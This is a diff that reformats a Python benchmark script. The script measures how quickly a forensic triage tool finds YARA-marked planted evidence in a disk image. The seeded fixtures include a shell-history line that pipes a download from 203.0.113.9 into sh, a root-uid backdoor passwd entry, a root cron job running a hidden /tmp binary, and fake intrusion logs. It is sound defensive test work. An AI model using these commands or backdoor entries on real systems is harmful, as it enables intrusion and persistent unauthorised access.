@@ -37,16 +37,23 @@ from _images import benchmark_image, describe  # noqa: E402
 MARK = "TRIAGE-BENCH-SEED-7f3a91"
 RULE = f'rule triage_bench_seed {{ strings: $a = "{MARK}" condition: $a }}\n'
 LATE_SEEDS = {  # /var sorts after /usr in the image's walk order: a scan without a profile meets them last
-    "/var/log/auth.log": (f"Nov 27 03:12:44 srv sshd[811]: Accepted password for mallory from 203.0.113.9 "
-                          f"port 50122 ssh2 {MARK}\n").encode() * 50,
-    "/var/log/nginx/access.log": (f'203.0.113.9 - - [27/Nov/2026:03:10:01 +0000] "GET /{MARK} HTTP/1.1" 404 0\n'
-                                  ).encode() * 20,
+    "/var/log/auth.log": (
+        f"Nov 27 03:12:44 srv sshd[811]: Accepted password for mallory from 203.0.113.9 "
+        f"port 50122 ssh2 {MARK}\n"
+    ).encode()
+    * 50,
+    "/var/log/nginx/access.log": (
+        f'203.0.113.9 - - [27/Nov/2026:03:10:01 +0000] "GET /{MARK} HTTP/1.1" 404 0\n'
+    ).encode()
+    * 20,
     "/var/log/syslog": f"Nov 27 03:13:02 srv CRON[902]: (root) CMD (/tmp/.x/{MARK})\n".encode() * 10,
     "/var/spool/cron/crontabs/root": f"*/5 * * * * /tmp/.x/{MARK} >/dev/null 2>&1\n".encode(),
 }
 EARLY_SEEDS = {  # /etc and /home come before /usr: the walk order alone finds these first
-    "/etc/passwd": ("root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n"
-                    f"mallory:x:0:0:{MARK}:/root:/bin/bash\n").encode(),
+    "/etc/passwd": (
+        "root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n"
+        f"mallory:x:0:0:{MARK}:/root:/bin/bash\n"
+    ).encode(),
     "/home/alice/.bash_history": f"ls -la\ncurl -s http://203.0.113.9/x.sh | sh  # {MARK}\n".encode(),
     **LATE_SEEDS,
 }
@@ -67,8 +74,20 @@ def first_finding_in(db: Path) -> bool:
 
 
 def triage_run(image: Path, rules: Path, case: Path, workers: int, profile: str | None) -> dict[str, float]:
-    cmd = [*TRIAGE, "scan", str(image), "--case", str(case), "--workers", str(workers),
-           "--analyzers", "hashes,filetype,yara", "--yara-rules", str(rules), "--json"]
+    cmd = [
+        *TRIAGE,
+        "scan",
+        str(image),
+        "--case",
+        str(case),
+        "--workers",
+        str(workers),
+        "--analyzers",
+        "hashes,filetype,yara",
+        "--yara-rules",
+        str(rules),
+        "--json",
+    ]
     if profile:
         cmd += ["--profile", profile]
     t0 = time.monotonic()
@@ -104,7 +123,9 @@ def reference_run(image: Path, rules: Path, work: Path) -> dict[str, float]:
     t0 = time.monotonic()
     subprocess.run(["tsk_recover", "-e", str(image), str(out)], check=True, capture_output=True)
     extracted = time.monotonic() - t0
-    proc = subprocess.Popen(["yara", "-r", "-p", "2", str(rules), str(out)], stdout=subprocess.PIPE, text=True)
+    proc = subprocess.Popen(
+        ["yara", "-r", "-p", "2", str(rules), str(out)], stdout=subprocess.PIPE, text=True
+    )
     assert proc.stdout is not None
     line = proc.stdout.readline()
     first = time.monotonic() - t0
@@ -123,16 +144,25 @@ def main() -> None:
     ap.add_argument("--workers", type=int, default=os.cpu_count() or 2)
     ap.add_argument("--profile", default="linux-server")
     ap.add_argument("--no-reference", action="store_true", help="skip tsk_recover + yara")
-    ap.add_argument("--early", action="store_true",
-                    help="also seed /etc/passwd and a shell history, which the walk reaches first anyway")
+    ap.add_argument(
+        "--early",
+        action="store_true",
+        help="also seed /etc/passwd and a shell history, which the walk reaches first anyway",
+    )
     args = ap.parse_args()
 
     seeds = EARLY_SEEDS if args.early else LATE_SEEDS
-    image = benchmark_image(args.min_files, args.min_bytes, extra=seeds, variant="seeded" if args.early else "seeded-var")
+    image = benchmark_image(
+        args.min_files, args.min_bytes, extra=seeds, variant="seeded" if args.early else "seeded-var"
+    )
     info = describe(image)
-    print(f"image: {image} ({info['files']} files, {int(info['bytes']) / 1e9:.2f} GB of content); "
-          f"{len(seeds)} seeded files in {args.profile} paths")
-    subprocess.run(["cat", str(image)], stdout=subprocess.DEVNULL, check=True)  # warm the page cache for all runs
+    print(
+        f"image: {image} ({info['files']} files, {int(info['bytes']) / 1e9:.2f} GB of content); "
+        f"{len(seeds)} seeded files in {args.profile} paths"
+    )
+    subprocess.run(
+        ["cat", str(image)], stdout=subprocess.DEVNULL, check=True
+    )  # warm the page cache for all runs
     with tempfile.TemporaryDirectory(prefix="ttff-", dir=image.parent) as tmp:
         work = Path(tmp)
         rules = work / "seed.yar"
@@ -141,14 +171,18 @@ def main() -> None:
         print(f"triage --profile {args.profile}: first finding after {with_profile['first']:.2f} s")
         without = triage_run(image, rules, work / "none", args.workers, None)
         pos, total = scan_order_position(work / "none", seeds)
-        print(f"triage, no profile:          first finding after {without['first']:.2f} s "
-              f"(first seeded file is #{pos} of {total} regular files in inventory order)")
+        print(
+            f"triage, no profile:          first finding after {without['first']:.2f} s "
+            f"(first seeded file is #{pos} of {total} regular files in inventory order)"
+        )
         ratio = with_profile["first"] / without["first"]
         print(f"ratio profile / no profile: {ratio:.3f} (target <= 0.10)")
         if not args.no_reference and shutil.which("tsk_recover") and shutil.which("yara"):
             ref = reference_run(image, rules, work)
-            print(f"tsk_recover -e + yara -r:    first finding after {ref['first']:.2f} s "
-                  f"(extraction {ref['extracted']:.2f} s)")
+            print(
+                f"tsk_recover -e + yara -r:    first finding after {ref['first']:.2f} s "
+                f"(extraction {ref['extracted']:.2f} s)"
+            )
             print(f"ratio profile / reference: {with_profile['first'] / ref['first']:.3f}")
 
 
